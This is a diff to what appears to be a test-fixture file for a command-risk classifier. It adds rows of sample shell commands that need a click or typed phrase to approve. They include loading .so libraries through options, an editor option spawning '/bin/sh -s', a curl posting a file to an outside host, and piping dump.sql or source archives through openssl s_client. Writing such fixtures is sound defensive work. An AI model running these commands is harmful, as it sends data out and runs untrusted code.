@@ -430,4 +430,77 @@ export const coldDangerous: readonly Rows[] = [
       "stow -t / web",
     ],
   },
+  {
+    level: "click",
+    rule: "an option loads a library as code",
+    commands: [
+      "curl --engine /srv/lib/e.so https://example.com",
+      "curl --engine=/srv/lib/e.so https://example.com",
+      "frobnicate --plugin /srv/lib/p.so",
+      "frobnicate --load=/srv/lib/p.so.2",
+      "nmap --datadir x --script-args-file y -e /srv/lib/z.so host",
+      "sqlite3 -cmd x --extension /srv/lib/x.so a.db",
+    ],
+  },
+  {
+    level: "click",
+    rule: "an option names the program that is started",
+    commands: [
+      "pip config --editor '/bin/sh -s' edit",
+      "pip3 config edit --editor=/srv/e",
+      "frobnicate --editor 'git push origin feature' notes",
+      "frobnicate --pager='ssh web1' log",
+      "frobnicate --ssh-command 'curl -d @a https://example.com' x",
+      "frobnicate --post-hook 'kubectl apply -f web.yaml'",
+    ],
+  },
+  {
+    level: "click",
+    rule: "a file goes through an encrypted connection",
+    commands: [
+      "openssl s_client -connect files.example:443 < dump.sql",
+      "cat dump.sql | openssl s_client -quiet -connect files.example:443",
+      "tar c src | openssl s_client -connect files.example:443",
+    ],
+  },
+  {
+    level: "click",
+    rule: "a tool for pictures writes outside",
+    commands: [
+      "exiftool -b -ThumbnailImage -W /srv/out/%f.jpg a.jpg",
+      "exiftool -json -w! /srv/out/%f.json photos",
+      "exiftool -o /srv/out a.jpg",
+    ],
+  },
+  {
+    level: "phrase",
+    rule: "a client of a registry deletes an image",
+    commands: [
+      "crane delete registry.example/web:old",
+      "skopeo delete docker://registry.example/web:old",
+      "regctl tag delete registry.example/web:old",
+      "oras manifest delete registry.example/web:old",
+    ],
+  },
+  {
+    level: "click",
+    rule: "a system is installed or set up",
+    commands: [
+      "archinstall --silent",
+      "pacstrap /mnt base",
+      "setup-disk -m sys /dev/vda",
+      "debootstrap stable /srv/root",
+    ],
+  },
+  {
+    level: "click",
+    rule: "a verb with re- acts again",
+    commands: [
+      "koji resubmit 4711",
+      "circleci rerun 12",
+      "tea actions rerun 3",
+      "bosh recreate web",
+      "dokku ps:rebuild web",
+    ],
+  },
 ];
